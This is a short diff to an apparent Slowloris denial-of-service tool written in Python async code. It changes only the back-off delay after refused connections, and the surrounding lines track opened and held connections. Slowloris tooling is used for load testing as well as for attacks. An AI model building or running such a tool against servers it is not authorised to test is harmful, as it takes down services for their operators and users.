@@ -86,7 +86,7 @@ class Slowloris:
                     server_hostname=self.server_hostname if self.tls else None), 5)
             except (OSError, asyncio.TimeoutError, _ssl.SSLError):
                 self.refused += 1
-                await asyncio.sleep(0.2)
+                await asyncio.sleep(0.5)
                 continue
             self.opened += 1
             self.holding += 1
